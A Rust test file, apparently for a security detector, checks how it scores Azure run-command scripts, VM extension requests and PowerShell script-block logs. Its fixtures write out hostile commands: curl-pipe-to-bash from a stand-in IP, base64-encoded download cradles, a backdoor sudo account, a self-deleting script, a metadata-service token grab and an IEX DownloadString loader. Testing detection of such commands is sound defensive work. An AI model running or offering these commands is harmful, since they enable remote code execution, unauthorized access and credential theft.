//! Sections 32 and 33: what the scripts of executions do, and how they are wrapped.

use super::{Table, json};

fn script(text: &str) -> Table {
    Table::default().file(
        "web01/var/lib/waagent/run-command/download/3/script.sh",
        text,
    )
}

#[test]
fn worked_examples() {
    for (text, severity, score) in [
        (
            "#!/bin/sh\ncurl -fsSL http://203.0.113.7/i.sh | sudo bash\n",
            "medium",
            9,
        ),
        (
            "#!/bin/sh\nuseradd -m svc; usermod -aG sudo svc; echo 'svc:x' | chpasswd\n",
            "medium",
            8,
        ),
        ("#!/bin/sh\nrm -f -- \"$0\"\n", "high", 9),
    ] {
        let found = script(text).finds("script-content");
        assert_eq!(found.len(), 1, "{text}");
        assert_eq!(found[0].severity.word(), severity, "{text}");
        assert_eq!(found[0].values["score"], score, "{text}");
        assert_eq!(found[0].values["source"], "script");
        assert_eq!(found[0].executions, [0]);
    }
    let benign = script("#!/bin/sh\napt-get update && apt-get install -y nginx\n");
    assert!(benign.finds("script-content").is_empty());
    assert!(benign.finds("decode").is_empty());
    assert_eq!(benign.searched("script-content"), (true, None));
}

#[test]
fn decoded_layers_are_searched_and_secrets_masked() {
    let wrapped = script("#!/bin/sh\necho Y3VybCBodHRwOi8vMTkyLjAuMi4xL2l8c2gK | base64 -d | sh\n");
    let found = wrapped.finds("script-content");
    let matches = found[0].values["matches"]
        .as_array()
        .expect("matches")
        .clone();
    let deep = matches
        .iter()
        .find(|hit| hit["id"] == "dl-sh-pipe")
        .expect("in the layer");
    assert_eq!(
        (deep["layer"].as_u64(), &deep["text"]),
        (Some(1), &json!("curl http://192.0.2.1/i|sh\n"))
    );
    let codes: Vec<_> = wrapped
        .finds("decode")
        .iter()
        .map(|one| (one.values["code"].clone(), one.severity.word()))
        .collect();
    assert_eq!(codes, [(json!("encoded-execution"), "medium")]);
    let masked = script("#!/bin/sh\nuseradd svc\necho 'svc:Hunter22' | chpasswd\n");
    let shown = json!(*masked.finds("script-content")[0].values).to_string();
    assert!(!shown.contains("Hunter22"), "{shown}");
}

#[test]
fn wrapped_twice() {
    let twice = script(
        "#!/bin/sh\necho cG93ZXJzaGVsbCAtZW5jIFNRQkZBRmdBSUFBb0FIY0FhQUJ2QUdFQWJRQnBBQ2tB | base64 -d | sh\n",
    );
    let found = twice.finds("decode");
    let codes: Vec<_> = found
        .iter()
        .map(|one| one.values["code"].as_str().expect("a word").to_owned())
        .collect();
    assert_eq!(codes, ["encoded-execution", "nested-encoding"]);
    assert_eq!(found[1].severity.word(), "high");
    assert_eq!(
        found[1].values["path"],
        json!(["sh-base64", "ps-encoded-command"])
    );
    // Data that nobody executes is no finding.
    let data = script("#!/bin/sh\necho aWQK | base64 -d > f\n");
    assert!(data.finds("decode").is_empty());
}

#[test]
fn the_request_where_the_guest_is_unknown() {
    let body =
        r#"{"properties":{"source":{"script":"curl\u0020http://203.0.113.7/i\u0020|\u0020sh"}}}"#;
    let table = Table::of(&format!(
        "2024-05-20T12:00:00 write:rc1 alice@contoso.example 52.1.2.3 vm1 body={body}"
    ));
    let found = table.finds("script-content");
    assert_eq!(found[0].values["source"], "request-body");
    assert_eq!(found[0].operations, [0]);
    let extension = r#"{"properties":{"publisher":"Microsoft.Azure.Extensions","type":"CustomScript","settings":{"commandToExecute":"rm\u0020-f\u0020--\u0020\"$0\""}}}"#;
    let table = Table::of(&format!(
        "2024-05-20T12:00:00 extension:cse alice@contoso.example 52.1.2.3 vm1 body={extension}"
    ));
    assert_eq!(table.severities("script-content"), ["high"]);
    assert_eq!(table.severities("vm-extension-write"), ["high"]);
    assert_eq!(
        table.finds("vm-extension-write")[0].values["raised_by"],
        json!(["script-content"])
    );
}

#[test]
fn a_token_asked_for_is_a_step_of_the_chain() {
    let body = r#"{"properties":{"source":{"script":"curl\u0020-H\u0020Metadata:true\u0020'http://169.254.169.254/metadata/identity/oauth2/token?resource=https://vault.azure.net'"}}}"#;
    let table = Table::of(&format!(
        "2024-05-20T12:00:00 write:rc1 alice@contoso.example 52.1.2.3 vm1 body={body}"
    ));
    let chain = table.finds("run-command-chain");
    assert_eq!(chain[0].values["steps"][0]["step"], "token-theft");
}

#[test]
fn weights_and_thresholds_are_the_analysts() {
    let text = "#!/bin/sh\ncurl -fsSL http://203.0.113.7/i.sh | sudo bash\n";
    let lighter = script(text).set("indicators.dl-sh-pipe", "1");
    assert_eq!(lighter.finds("script-content")[0].values["score"], 4);
    let off = script(text)
        .set("indicators.dl-sh-pipe", "off")
        .set("indicators.dl-raw-ip-url", "off");
    assert!(off.finds("script-content").is_empty());
    let strict = script(text).set("script-content.high", "9");
    assert_eq!(strict.severities("script-content"), ["high"]);
}

#[test]
fn without_executions_nothing_is_assessed() {
    let (ran, reason) = Table::default().searched("script-content");
    assert_eq!(
        (ran, reason.as_deref()),
        (false, Some("not-assessed: no executions are known"))
    );
    let (ran, reason) =
        Table::of("2024-05-20T12:00:00 run a@b.example 52.1.2.3 vm1").searched("decode");
    assert!(!ran && reason.is_some());
    let part = script("#!/bin/sh\nid\n").with("2024-05-20T12:00:00 run a@b.example 52.1.2.3 vm1");
    let (ran, reason) = part.searched("script-content");
    assert!(ran && reason.is_some_and(|reason| reason.contains("1 of 2")));
}

/// Records of PowerShell's script-block log, as wevtutil's JSON renders them: (block, part, of, text).
fn logged(blocks: &[(&str, i64, i64, &str)]) -> Table {
    let rows = blocks.iter().zip(0..).map(|((block, part, parts, text), number)| {
        json!({ "Event": {
            "System": {
                "Provider": { "#attributes": { "Name": "Microsoft-Windows-PowerShell" } },
                "EventID": 4104, "EventRecordID": 100 + number, "Channel": "Microsoft-Windows-PowerShell/Operational", "Computer": "WIN01",
                "TimeCreated": { "#attributes": { "SystemTime": format!("2024-05-01T10:00:0{number}.000000Z") } },
            },
            "EventData": { "MessageNumber": part, "MessageTotal": parts, "ScriptBlockText": text, "ScriptBlockId": block, "Path": "" },
        } })
        .to_string()
    });
    let text: Vec<String> = rows.collect();
    Table::default().file("powershell.json", text.join("\n"))
}

/// A block that no run claims is judged as it stands in the log: its parts joined, one finding for one text, that it was a run command's not claimed.
#[test]
fn scripts_that_only_the_log_knows() {
    let table = logged(&[
        ("b1", 1, 2, "IEX (New-Object Net.Web"),
        (
            "b1",
            2,
            2,
            "Client).DownloadString('http://203.0.113.7/a.ps1')",
        ),
        ("b2", 1, 1, "Get-Date"),
    ]);
    let found = table.finds("script-content");
    assert_eq!(found.len(), 1, "{found:?}");
    assert_eq!(found[0].values["source"], "script-block-log");
    assert_eq!(
        (
            found[0].events.len(),
            found[0].executions.len(),
            found[0].confidence.word(),
            found[0].subject.host.as_deref()
        ),
        (2, 0, "medium", Some("WIN01"))
    );
    // The same text again is the same script; the other part of a cut expression alone says less.
    let again = logged(&[
        ("b1", 1, 1, "whoami /priv; IEX (irm http://203.0.113.7/a)"),
        ("b3", 1, 1, "whoami /priv; IEX (irm http://203.0.113.7/a)"),
    ]);
    let found = again.finds("script-content");
    assert_eq!((found.len(), found[0].events.len()), (1, 2));
    let clean = logged(&[("b2", 1, 1, "Get-Date")]);
    assert!(clean.finds("script-content").is_empty());
    assert_eq!(clean.searched("script-content"), (true, None));
}
